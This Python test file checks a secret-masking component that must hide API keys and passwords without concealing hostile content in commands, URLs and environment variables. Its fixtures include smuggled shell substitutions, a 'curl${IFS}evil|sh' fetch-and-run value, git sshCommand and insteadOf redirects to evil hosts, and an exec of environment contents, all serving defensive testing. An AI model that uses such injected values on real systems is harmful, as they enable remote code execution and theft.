"""What a person reads before they allow a part: secrets are masked where they cannot decide what is allowed."""

from __future__ import annotations

import json
from pathlib import Path
from tempfile import TemporaryDirectory
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from zeus_runtime.config.secrets.masking import Redactor
from zeus_runtime.trust.masking import PartMask
from zeus_runtime.trust.parts import Command, Project, command_part

OWN = "sk-own-0123456789abcdef"
TOKEN = "ghp_0123456789abcdef"
BEGIN, END = "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"
LINE = "MIIEvgIBADANBgkqhkiG9w0BAQEFAASCBKgwggSkAgEAAoIBAQC7VJTUt9Us8cKj"
MASK = PartMask.of(
    {"OPENAI_API_KEY": OWN, "CI_COMMIT": "see https://x:evilpackage1@host"},
    Redactor().adding({TOKEN: "GH_TOKEN", "short": "PIN"}),
)


def brought(value: str) -> PartMask:
    """The mask for a config that brings ``value`` as a secret."""
    return PartMask.of({}, Redactor().adding({value: "A_TOKEN"}))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (TOKEN, TOKEN),
        (OWN, "<secret:OPENAI_API_KEY>"),
        ("evilpackage1", "evilpackage1"),
        (f"x {OWN} y", "x <secret:OPENAI_API_KEY> y"),
        (f"--token={TOKEN}", "--token=<secret:GH_TOKEN>"),
        (f"GH_TOKEN={TOKEN}", "GH_TOKEN=<secret:GH_TOKEN>"),
        ("--token=hunter2hunter2", "--token=**********"),
        ("api-key==1x2y3z4w5", "api-key==1x2y3z4w5"),
        ("api_key=f(chr(1)+chr(2))", "api_key=f(chr(1)+chr(2))"),
        ("token: str = f(1)", "token: str = f(1)"),
        ("API_KEY=demo acmectl wipe", "API_KEY=demo acmectl wipe"),
        ("TOKEN=demo;acmectl", "TOKEN=demo;acmectl"),
        ("TOKEN=demo\nacmectl", "TOKEN=demo\nacmectl"),
        ("--token=demo|acmectl", "--token=demo|acmectl"),
        (f"api_key={OWN}", "api_key=<secret:OPENAI_API_KEY>"),
        (f"--package={TOKEN}", f"--package={TOKEN}"),
        (f"git+https://{TOKEN}@github.com/a/b", "git+https://<secret:GH_TOKEN>@github.com/a/b"),
        ("https://me:hunter2@host/a", "https://me:**********@host/a"),
        ("https://host:80@evil/a", "https://host:**********@evil/a"),
        ("--index-url=https://me:hunter2@host/a", "--index-url=https://me:**********@host/a"),
        (f"--from=git+https://{TOKEN}@host/a", "--from=git+https://<secret:GH_TOKEN>@host/a"),
        ("DATABASE_URL=postgresql://me:hunter2@db/x", "DATABASE_URL=postgresql://me:**********@db/x"),
        (
            f"--url=https://host/a?api_key={TOKEN}&b={OWN}",
            "--url=https://host/a?api_key=<secret:GH_TOKEN>&b=<secret:OPENAI_API_KEY>",
        ),
        ("--url=https://me:$(run)@host/a", "--url=https://me:$(run)@host/a"),
        ("--url=https://me:pw@host,https://x:y@host", "--url=https://me:pw@host,https://x:y@host"),
        ("ssh://me:x%40evil%2F@host/a", "ssh://me:x%40evil%2F@host/a"),
        ("https://me:$(run)@host/a", "https://me:$(run)@host/a"),
        (f"https://host/a?api_key={TOKEN}&b=1", "https://host/a?api_key=<secret:GH_TOKEN>&b=1"),
    ],
)
def test_an_argument(text: str, shown: str) -> None:
    assert MASK.word(text) == shown


@pytest.mark.parametrize(
    ("name", "value", "shown"),
    [
        ("GITHUB_TOKEN", TOKEN, "<secret:GH_TOKEN>"),
        ("GITHUB_TOKEN", "any", "**********"),
        ("API_KEY", "wJalrXUtnFEMI/K7MDENG1/bPxRfi", "**********"),
        ("NODE_OPTIONS", TOKEN, TOKEN),
        ("GIT_CONFIG_KEY_0", "core.sshCommand", "core.sshCommand"),
        ("GIT_CONFIG_KEY_0", "url.https://evil1234/.insteadOf", "url.https://evil1234/.insteadOf"),
        ("A_KEY", "./run1234567.sh", "./run1234567.sh"),
        ("A_KEY", "curl${IFS}evil|sh", "curl${IFS}evil|sh"),
        ("DATABASE", "postgresql://me:hunter2@db,db2:5/x", "postgresql://me:**********@db,db2:5/x"),
        ("NODE_OPTIONS", OWN, "<secret:OPENAI_API_KEY>"),
        ("A_PASSWORD", "P@ssw0rd!2x", "**********"),
        ("A_PASSWORD", "tr0ub4dor&3", "**********"),
        ("A_PASSWORD", "pa$$word%21 of mine", "**********"),
        ("BOT_TOKEN", "123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw", "**********"),
        ("A_TOKEN", "/9j4AAQSkZJRgABAQ+x=", "**********"),
        ("A_TOKEN", "x ~/bin123456/run", "x ~/bin123456/run"),
        ("A_TOKEN", "a|/etc/x12345678", "a|/etc/x12345678"),
        ("A_TOKEN", "me@t.co", "me@t.co"),
        ("A_TOKEN", "q7x9k2m4w8z1.example/a:1", "q7x9k2m4w8z1.example/a:1"),
        ("A_TOKEN", "me@10.0.0.5", "me@10.0.0.5"),
        ("A_TOKEN", "[fe80::1]:80", "[fe80::1]:80"),
        ("A_TOKEN", "`x`", "`x`"),
        ("A_TOKEN", "$CI_COMMIT x", "$CI_COMMIT x"),
        ("A_TOKEN", "$(x)", "$(x)"),
        ("A_KEY", f"{BEGIN}\n{LINE}\n/{LINE[1:]}\nab/cd==\n{END}\n", "**********"),
        ("A_KEY", f"{BEGIN}\\n{LINE}\\nab/cd==\\n{END}\\n", "**********"),
        ("A_KEY", f"{BEGIN}\n{LINE}\n/etc/passwd\n{END}", f"{BEGIN}\n{LINE}\n/etc/passwd\n{END}"),
        ("A_KEY", f"{BEGIN}\n/tmp/evil\n{LINE}\n{END}", f"{BEGIN}\n/tmp/evil\n{LINE}\n{END}"),
    ],
)
def test_a_variable(name: str, value: str, shown: str) -> None:
    assert MASK.entry(name, value) == shown


def test_members_of_json_are_masked_by_their_own_names() -> None:
    account = {"token_uri": "https://oauth2.example/t", "private_key": f"{BEGIN}\n{LINE}\nab/cd==\n{END}\n"}
    shown = MASK.entry(
        "GOOGLE_CREDENTIALS", json.dumps({**account, "keys": ["é-hunter2", {"id": "hunter2"}]})
    )
    assert json.loads(shown) == {
        "token_uri": "https://oauth2.example/t",
        "private_key": "**********",
        "keys": ["é-hunter2", {"id": "hunter2"}],
    }
    assert MASK.entry("OTHER", '{"api_key": "hunter2!é"}') == '{"api_key": "**********"}'
    assert MASK.entry("OTHER", '{"api_key": "hunter2!\\u00e9"}') == '{"api_key": "**********"}'
    assert MASK.entry("OTHER", '{"command": "hunter2"}') == '{"command": "hunter2"}'
    assert MASK.entry("OTHER", "{" + "[" * 10_000) == "{" + "[" * 10_000


def test_a_secret_member_of_json_hides_no_other_member() -> None:
    for value in (
        {"command": "npx", "args": ["-y", "evilpackage1"], "api_key": "evilpackage1"},
        {"args": ["--yolo1"], "token": "--yolo1"},
        {"evilname1": 1, "token": "evilname1"},
    ):
        assert MASK.entry("OTHER", json.dumps(value)) == json.dumps(value)
    assert MASK.entry("OTHER", '{"api_key": "abc123", "token": "abc123"}').count("**********") == 2


def test_code_behind_a_flag_for_headers_is_shown() -> None:
    code = "api-key: x; acmectl wipe"
    assert list(MASK.words(["-c", "-H", code])) == ["-c", "-H", code]


@pytest.mark.parametrize(
    "word",
    [
        "evil-package",
        "evil@^1 || X",
        "gist:9f0c2f8e1a7b4d3c8e5f6a7b8c9d0e1f",
        "EvilPackage",
        "evil!pkg",
        "name@npm:other",
        "start:evil",
        "image:Latest",
        "P@ss!2",
        TOKEN,
    ],
)
@pytest.mark.parametrize("flag", ["--api-key", "--token", "-password", "--auth_token"])
def test_a_flag_hides_no_word_behind_it(flag: str, word: str, tmp_path: Path) -> None:
    # Only the program knows whether the flag takes a value: `npx --api-key gist:ID` runs the gist.
    mask = brought(word)
    given = Command("s", ("npx", "-y", flag, word), {})
    part = command_part(given, Project(tmp_path, (tmp_path,)), mask=mask)
    shown = [text for name, text in part.lines if name == "argument"]
    assert [text.strip('"') for text in shown] == ["-y", flag, word]
    own = PartMask.of({"MY_TOKEN": word}, Redactor())
    assert list(own.words([flag, word])) == [flag, "<secret:MY_TOKEN>"]


@given(
    st.text(min_size=1, max_size=12), st.sampled_from(["--api-key", "--token", "--db-password", "-secret"])
)
def test_a_word_behind_a_flag_is_shown_as_it_is_without_one(word: str, flag: str) -> None:
    mask = brought(word)
    assert list(mask.words([flag, word])) == [flag, mask.word(word)]


def test_a_secret_with_its_name_in_the_same_word_is_masked() -> None:
    arguments = [
        f"--api-key={TOKEN}",
        "--token=P@ss!2",
        "-H",
        "Authorization:ab 1",
        "secret:latest",
        "--header=X-Api-Key: a b",
        "X-Api-Key: a",
    ]
    assert list(MASK.words(arguments)) == [
        "--api-key=<secret:GH_TOKEN>",
        "--token=**********",
        "-H",
        "Authorization:**********",
        "secret:latest",
        "--header=X-Api-Key: **********",
        "X-Api-Key: **********",
    ]


@pytest.mark.parametrize(
    ("query", "shown"),
    [
        ("token=evil.example", "token=evil.example"),
        ("api_key=evil%2Eexample", "api_key=evil%2Eexample"),
        ("auth_token=%2F%2Fevil", "auth_token=%2F%2Fevil"),
        ("token=abc123+evil.example+x1", "token=abc123+evil.example+x1"),
        ("auth_token=%252F%252Fevil", "auth_token=%252F%252Fevil"),
        ("a=1&token=https%3A//evil1234", "a=1&token=https%3A//evil1234"),
        (f"token={TOKEN}&b=1", "token=<secret:GH_TOKEN>&b=1"),
        ("token=wJalrXUtnFEMI%2FK7MDENG1%2FbPxRfi", "token=**********"),
        ("token=P%40ssw0rd%212x", "token=**********"),
        (f"token={OWN}", "token=<secret:OPENAI_API_KEY>"),
        ("key=abc123", "key=abc123"),
    ],
)
def test_a_query_parameter(query: str, shown: str) -> None:
    assert MASK.address(f"https://gw.example/v1?{query}") == f"https://gw.example/v1?{shown}"
    own = PartMask.of({"MY_TOKEN": "evil.example"}, Redactor())
    assert (
        own.address("https://gw.example/?token=evil.example") == "https://gw.example/?token=<secret:MY_TOKEN>"
    )


@given(st.text(alphabet="ab1!@#&:;|= '\"\\", max_size=6), st.text(alphabet="ab1!@#&:;|= '\"\\", max_size=6))
def test_no_signs_hide_a_program(before: str, after: str) -> None:
    with TemporaryDirectory() as folder:
        program = Path(folder, "evilhelper")
        program.write_text("#!/bin/sh\n")
        program.chmod(0o755)
        mask = PartMask.of({"PATH": folder}, Redactor())
        for name in ("evilhelper", "evil''helper", "e\\vilhelper"):
            value = f"{before};{name}&{after}"
            assert mask.entry("A_TOKEN", value) == value


@given(st.text(alphabet="ab1./:@?#\\%= [],;&-_~$()", min_size=1, max_size=14))
@example("evil.example/g")
@example("evil.example:80/g?x=")
@example("evil.example\\")
@example("a:b@evil.example/g?token=")
def test_no_secret_of_a_config_hides_the_host_of_an_address(secret: str) -> None:
    address = f"https://{secret}@gateway.example/v1"
    shown = brought(secret).address(address)
    if shown != address:
        before, after = urlsplit(address), urlsplit(shown)
        assert (after.hostname, after.path) == (before.hostname, before.path)
        assert not {*(before.username or ""), *(before.password or "")} & {*"/?#\\ @"}


@given(
    st.text(alphabet="ab1./:@?#\\%= -_~$()", min_size=1, max_size=14), st.sampled_from(["{}", "a{}", "{}a"])
)
def test_a_secret_of_a_config_is_shown_in_the_place_of_a_host_or_a_package(secret: str, form: str) -> None:
    mask, text = brought(secret), form.format(secret)
    assert (
        mask.address(f"https://x.example{text}") == f"https://x.example{text}" or "?" in text or "@" in text
    )
    if "=" not in text and "://" not in text:
        assert mask.word(text) == mask.entry("NODE_OPTIONS", text) == text


def test_a_program_is_shown_though_its_variable_is_named_like_a_secret(tmp_path: Path) -> None:
    program = tmp_path / "evilhelper"
    program.write_text("#!/bin/sh\n")
    program.chmod(0o755)
    mask = PartMask.of({"PATH": str(tmp_path)}, Redactor())
    assert mask.entry("VAULT_PASSWORD_HELPER", "evilhelper") == "evilhelper"
    assert mask.word("--password-command=evilhelper") == "--password-command=evilhelper"
    assert mask.entry("VAULT_PASSWORD_HELPER", "otherhelper") == "**********"
    own = PartMask.of({"PATH": str(tmp_path), "MY_TOKEN": "evilhelper"}, Redactor())
    assert own.entry("VAULT_PASSWORD_HELPER", "evilhelper") == "<secret:MY_TOKEN>"
    given = Command("s", ("run",), {"PATH": str(tmp_path), "VAULT_PASSWORD_HELPER": "evilhelper"})
    part = command_part(given, Project(tmp_path, (tmp_path,)), mask=PartMask())
    assert ("env", "VAULT_PASSWORD_HELPER=evilhelper") in part.lines


@pytest.mark.parametrize(
    "host", ["q7x9k2m4w8z1.oast.fun", "q7x9k2m4w8z1v5t3.io/api/v1", "a1b2c3d4e5.io:8080"]
)
def test_a_host_is_shown_though_it_looks_random_and_its_name_says_secret(host: str) -> None:
    assert MASK.word(f"--token-url={host}") == f"--token-url={host}"
    assert MASK.entry("TOKEN_HOST", host) == host


def test_a_variable_that_the_config_gives_is_replaced_by_a_shell_too() -> None:
    assert MASK.entry("A_TOKEN", "$RUN 1") == "**********"
    assert MASK.within({"RUN": "evil"}).entry("A_TOKEN", "$RUN 1") == "$RUN 1"


@pytest.mark.parametrize(
    ("words", "name"),
    [
        (("sh", "-c", "exec npx -y $ISSUES_TOKEN"), "ISSUES_TOKEN"),
        (("sh", "-c", 'exec npx -y "${ISSUES_TOKEN}"'), "ISSUES_TOKEN"),
        (("python3", "-c", "exec(os.environ['PAY_' + 'API_KEY'])"), "PAY_API_KEY"),
        (("server", "--run", "ISSUES_TOKEN"), "ISSUES_TOKEN"),
        (("$ISSUES_TOKEN",), "ISSUES_TOKEN"),
    ],
)
def test_a_value_that_the_command_itself_reads_is_shown(
    words: tuple[str, ...], name: str, tmp_path: Path
) -> None:
    project = Project(tmp_path, (tmp_path,))

    def lines(words: tuple[str, ...], **env: str) -> tuple[tuple[str, str], ...]:
        return command_part(Command("s", words, env), project, mask=MASK).lines

    assert ("env", f"{name}=evilmcp") in lines(words, **{name: "evilmcp"})
    login = "https://evilmcp:x@a.example"
    assert ("env", f"{name}={login}") in lines(words, **{name: login})
    assert ("env", f"{name}=<secret:OPENAI_API_KEY>") in lines(words, **{name: OWN})
    assert ("env", "OTHER_TOKEN=**********") in lines(words, **{name: "x", "OTHER_TOKEN": "evilmcp"})
    by_another = {name: "evilmcp", "RUN": words[-1]}
    assert ("env", f"{name}=evilmcp") in lines(("sh", "-c", "run"), **by_another)
    assert ("argument", f"{name}=evilmcp") in lines(("env", f"{name}=evilmcp", *words))
    assert ("argument", f"{name}=**********") in lines(("env", f"{name}=evilmcp", "server"))
    assert ("argument", f"--{name}=**********") in lines(("server", f"--{name}=evilmcp", *words))


def test_an_argument_of_a_prompt_is_no_variable_that_the_command_reads(tmp_path: Path) -> None:
    given = Command("s", ("run", "api_key"), sent={"prompts": {"a": {"api_key": "hunter2hunter2"}}})
    lines = command_part(given, Project(tmp_path, (tmp_path,)), mask=MASK).lines
    assert not any("hunter2" in text for _, text in lines)
